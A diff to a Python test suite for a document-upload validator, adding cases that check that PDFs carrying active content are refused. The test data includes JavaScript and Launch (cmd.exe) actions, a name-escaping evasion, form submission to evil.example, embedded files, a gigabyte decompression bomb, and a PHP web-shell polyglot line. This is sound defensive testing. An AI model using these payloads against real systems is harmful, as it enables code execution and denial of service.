@@ -3,12 +3,14 @@
 import io
 import os
 import stat
+import struct
 import zipfile
 import zlib
 from datetime import timedelta
 from pathlib import Path
 from urllib.parse import unquote
 
+import pikepdf
 import pytest
 from django.conf import settings
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -19,10 +21,9 @@ from ledger.entries import evidence, submission
 from ledger.entries.evidence import Attachment
 from ledger.models import Evidence
 from tests import builders
+from tests.pdfs import PDF, pdf, pdf_of
 from units.ground.refusal import Refusal
 from units.models import Role
-
-PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF\n"
 
 
 @pytest.fixture(autouse=True)
@@ -122,9 +123,6 @@ def test_other_types_are_refused(content):
         picture("PNG") + archive(),
         picture("JPEG")[:2] + b"\xff\xfe\x00\x0c<svg onload" + picture("JPEG")[2:],
         picture("JPEG") + b"<?php system($_GET[0]);",
-        b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF\n",
-        b"%PDF-1.4\n1 0 obj<</S/J#61vaScript/JS(app.alert(1))>>endobj\n%%EOF\n",
-        b"%PDF-1.4\n1 0 obj<</S /Launch /F (cmd.exe)>>endobj\n%%EOF\n",
     ],
 )
 def test_files_of_two_kinds_and_files_with_programs_are_refused(content):
@@ -133,6 +131,92 @@ def test_files_of_two_kinds_and_files_with_programs_are_refused(content):
         evidence.store(upload(content))
 
     assert names() == []
+
+
+ACTIVE = {
+    "JavaScript": b"<</S/JavaScript/JS(app.alert(1))>>",
+    "escaped": b"<</S/J#61vaScript/J#53(app.alert(1))>>",
+    "launch": b"<</Type/Action/S /Launch /F (cmd.exe)>>",
+    "submit": b"<</S/SubmitForm/F(http://evil.example/)>>",
+    "other file": b"<</S/GoToR/F(//evil.example/share/a.pdf)/D[0/Fit]>>",
+    "embedded": b"<</Type/Filespec/F(a.exe)/EF<</F 2 0 R>>>>",
+    "embedded stream": b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream",
+    "form of a program": b"<</AcroForm<</XFA[(a) 2 0 R]>>>>",
+    "inside": b"[[<</A<</B[<</S/JavaScript>>]>>>>]]",
+    "film": b"<</Subtype/RichMedia>>",
+}
+
+
+def packed(content, **options):
+    """The same PDF as a modern program saves it."""
+    file = io.BytesIO()
+    with pikepdf.open(io.BytesIO(content)) as document:
+        document.Root.Kept = document.get_object(3, 0)
+        document.save(file, **options)
+    return file.getvalue()
+
+
+@pytest.mark.parametrize("name", ACTIVE)
+def test_no_pdf_with_a_program_or_another_file_is_kept(name):
+    """quality 18: as it is, and inside a compressed stream of objects."""
+    plain = pdf(b"x", ACTIVE[name], catalog=b"/OpenAction 3 0 R")
+    hidden = packed(plain, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+
+    for content in (plain, hidden):
+        with pytest.raises(Refusal, match="contains a program"):
+            evidence.store(upload(content))
+    assert names() == []
+    if name != "embedded stream":
+        assert b"JavaScript" not in hidden
+
+
+def test_a_catalogue_or_trailer_that_acts_is_found_too():
+    for catalog in (b"/OpenAction<</S/JavaScript/JS(x)>>", b"/Names<</EmbeddedFiles<<>>>>"):
+        with pytest.raises(Refusal, match="contains a program"):
+            evidence.store(upload(pdf(catalog=catalog)))
+
+
+def test_links_forms_and_bookmarks_of_an_ordinary_pdf_are_accepted():
+    links = b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.cn/)>>>>"
+    jump = b"<</S/GoTo/D[2 0 R/Fit]>>"
+    field = b"<</FT/Tx/T(name)/V(value)>>"
+
+    assert evidence.store(upload(pdf(b"x", links, jump, field))).media_type == evidence.PDF
+
+
+def test_a_pdf_under_a_password_or_beyond_repair_is_refused_with_a_sentence():
+    locked = packed(pdf(b"x", b"<<>>"), encryption=pikepdf.Encryption(owner="a", user="b"))
+    with pytest.raises(Refusal, match="password"):
+        evidence.store(upload(locked))
+    with pytest.raises(Refusal, match="cannot be read"):
+        evidence.store(upload(b"%PDF-1.4\nnothing\n%%EOF\n"))
+
+
+def test_a_pdf_that_unpacks_to_the_machines_memory_is_refused():
+    """quality 19: a MB of compressed zeros, a gigabyte unpacked, where objects are packed."""
+    bomb = zlib.compressobj(9)
+    zeros = bomb.compress(b"4 0 <</Type/Kept>> ")
+    zeros += b"".join(bomb.compress(bytes(1 << 20)) for _part in range(1_000)) + bomb.flush()
+    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
+    packed_objects = stream % (len(zeros), zeros)
+
+    content = pdf(b"x", packed_objects)
+    xref = content.rindex(b"xref\n0", 0, content.rindex(b"startxref"))
+    as_stream = _with_packed_object(content[:xref])
+
+    with pytest.raises(Refusal, match="cannot be read"):
+        evidence.store(upload(as_stream))
+
+
+def _with_packed_object(body):
+    """A table of objects in which number 4 lies in the packed stream, number 3."""
+    entries = [(0, 0, 65535)]
+    entries += [(1, body.index(b"%d 0 obj" % number), 0) for number in (1, 2, 3)]
+    entries += [(2, 3, 0), (1, len(body), 0)]
+    rows = b"".join(struct.pack(">BIH", *entry) for entry in entries)
+    head = b"5 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Kept 4 0 R/Length %d>>stream\n%s\nendstream"
+    table = head % (len(rows), rows)
+    return body + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
 
 
 def test_cut_off_files_are_refused():
@@ -145,11 +229,12 @@ def test_cut_off_files_are_refused():
 
 
 def test_random_bytes_inside_a_long_scan_are_no_reason_to_refuse():
-    """A megabyte of noise stands for compressed streams; a false alarm would cost a clerk his day."""
-    for seed in range(20):
-        noise = zlib.compress(os.urandom(1 << 20), 0) if seed else bytes(range(256)) * 4096
+    """Twenty megabytes of noise stand for compressed streams; a false alarm would cost a clerk a day."""
+    noise = [zlib.compress(os.urandom(950_000), 0) for _number in range(20)]
+    streams = [b"<</Length %d>>stream\n%s\nendstream" % (len(part), part) for part in noise]
 
-        assert evidence.store(upload(PDF[:-6] + noise + b"\n%%EOF\n")).media_type == evidence.PDF
+    assert evidence.store(upload(pdf(noise[0], *streams))).media_type == evidence.PDF
+    assert evidence.store(upload(pdf(bytes(range(256)) * 4096))).media_type == evidence.PDF
 
 
 def test_pixels_have_a_limit():
@@ -162,7 +247,7 @@ def test_pixels_have_a_limit():
 
 def test_the_size_has_a_limit_and_nothing_is_left_behind():
     """quality 15"""
-    exact = PDF[:-6] + b"0" * (evidence.MAX_BYTES - len(PDF)) + PDF[-6:]
+    exact = pdf_of(evidence.MAX_BYTES)
     evidence.store(upload(exact))
 
     with pytest.raises(Refusal, match="20 MB"):
@@ -176,13 +261,13 @@ def test_the_size_has_a_limit_and_nothing_is_left_behind():
 # Where it lies
 
 
-def test_a_file_lies_under_its_hash_readable_by_the_group_only():
+def test_a_file_lies_under_its_hash_closed_to_others():
     """quality 19"""
     stored = evidence.store(upload(PDF))
     path = evidence.path_of(stored.sha256)
 
     assert path == Path(settings.MEDIA_ROOT) / stored.sha256[:2] / stored.sha256
-    assert stat.S_IMODE(path.stat().st_mode) == 0o640
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
     assert evidence.is_intact(stored.sha256)
 
 
